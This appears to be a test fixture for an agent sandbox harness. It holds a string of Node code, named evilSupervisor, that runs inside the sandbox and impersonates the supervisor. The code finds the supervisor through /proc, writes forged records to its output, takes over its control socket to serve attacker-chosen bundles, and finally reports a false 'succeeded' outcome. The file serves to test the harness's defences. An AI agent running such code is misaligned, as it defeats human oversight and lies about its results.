/**
 * A program for the inside of a sandbox, where it runs as the agent: it takes the supervisor's place. It opens the
 * supervisor's own standard output, takes over its control socket, says what it likes in the log, and answers the host's
 * requests for bundles with what lies in the folder `evil`. It says at last what it was asked for.
 */
export const evilSupervisor = `
import { closeSync, openSync, readFileSync, readdirSync, rmSync, writeSync } from 'node:fs';
import { createServer } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const plan = JSON.parse(readFileSync('evil/plan.json', 'utf8'));
const pid = readdirSync('/proc').find((each) => {
  try {
    const words = readFileSync('/proc/' + each + '/cmdline', 'utf8').split('\\0');
    return words.some((word) => word.endsWith('supervisor.js')) && !words.includes('control');
  } catch {
    return false;
  }
});
const out = openSync('/proc/' + pid + '/fd/1', 'w');
let s = 5000;
const say = (body) => writeSync(out, JSON.stringify({ s: ++s, t: Date.now(), ...body }) + '\\n');
const raw = (line) => writeSync(out, line + '\\n');

const frame = (kind, payload) => {
  const head = Buffer.alloc(5);
  head.write(kind);
  head.writeUInt32BE(payload.length, 1);
  return Buffer.concat([head, payload]);
};
const asked = [];
rmSync('/tmp/sallyport-supervisor.sock');
createServer({ allowHalfOpen: true }, (socket) => {
  let held = Buffer.alloc(0);
  let answered = false;
  socket.on('error', () => undefined);
  socket.on('data', (chunk) => {
    held = Buffer.concat([held, chunk]);
    if (answered || held.length < 5 || held.length < 5 + held.readUInt32BE(1)) return;
    answered = true;
    const request = JSON.parse(held.subarray(5, 5 + held.readUInt32BE(1)).toString());
    const reply = frame('J', Buffer.from(JSON.stringify({ ok: true })));
    if (request.op !== 'bundle') return void socket.end(reply);
    const sha = request.want.at(-1);
    const bytes = Buffer.from(readFileSync('evil/' + plan.bundles[sha], 'latin1'), 'base64');
    const parts = [];
    for (let at = 0; at < bytes.length; at += 1 << 19) parts.push(frame('D', bytes.subarray(at, at + (1 << 19))));
    asked.push(sha);
    socket.end(Buffer.concat([...parts, frame('E', Buffer.alloc(0)), reply]));
  });
}).listen('/tmp/sallyport-supervisor.sock');
await pause(300);

for (const body of plan.forged) say(body);
for (const line of plan.lines) raw(line);
for (const commit of plan.commits) {
  const before = asked.length;
  say({ type: 'commit', commit });
  for (let i = 0; i < 200 && asked.length === before; i++) await pause(50);
  await pause(plan.restMs);
}
console.log('asked for ' + asked.length);
await pause(500);
say({ type: 'ended', outcome: 'succeeded', message: 'All is well.' });
closeSync(out);
await pause(600_000);
`;
